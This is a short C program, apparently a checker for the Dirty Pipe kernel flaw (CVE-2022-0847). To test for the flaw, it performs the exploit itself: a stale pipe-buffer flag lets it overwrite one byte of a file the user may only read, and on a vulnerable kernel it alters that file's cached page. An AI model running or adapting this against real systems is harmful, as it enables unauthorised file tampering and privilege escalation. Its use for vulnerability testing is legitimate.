/*
 * Shows whether a kernel has Dirty Pipe (CVE-2022-0847): try FILE, as a user who may read FILE and not write to it.
 * Ends with 0 when FILE was changed, with 1 when it was not, with 2 when it could not be tried.
 *
 * A pipe is filled and emptied, so that each of its slots has had a page of its own, to which a later write may add. Then
 * one byte of FILE is spliced in: the slot now holds the page in which the kernel caches FILE. A kernel that does not
 * clear the slot's flags there adds the next write to that page, which is FILE to everybody who reads it.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static char page[4096];

static int fail(const char *what)
{
	perror(what);
	return 2;
}

int main(int argc, char **argv)
{
	int ends[2];
	int file = argc == 2 ? open(argv[1], O_RDONLY) : -1;
	off_t from = 0;
	char before, after, wanted;

	if (file < 0 || pread(file, &before, 1, 1) != 1)
		return fail("cannot read the file");
	if (open(argv[1], O_WRONLY) >= 0) {
		fprintf(stderr, "this user may write to it\n");
		return 2;
	}
	if (pipe(ends) < 0)
		return fail("pipe");
	int room = fcntl(ends[1], F_GETPIPE_SZ);
	for (int left = room; left > 0; left -= (int)sizeof(page))
		if (write(ends[1], page, sizeof(page)) != (ssize_t)sizeof(page))
			return fail("cannot fill the pipe");
	for (int left = room; left > 0; left -= (int)sizeof(page))
		if (read(ends[0], page, sizeof(page)) != (ssize_t)sizeof(page))
			return fail("cannot empty the pipe");
	if (splice(file, &from, ends[1], NULL, 1, 0) != 1)
		return fail("splice");
	wanted = before == '!' ? '?' : '!';
	if (write(ends[1], &wanted, 1) != 1)
		return fail("cannot write to the pipe");
	if (pread(file, &after, 1, 1) != 1)
		return fail("cannot read the file again");
	return after == wanted ? 0 : 1;
}
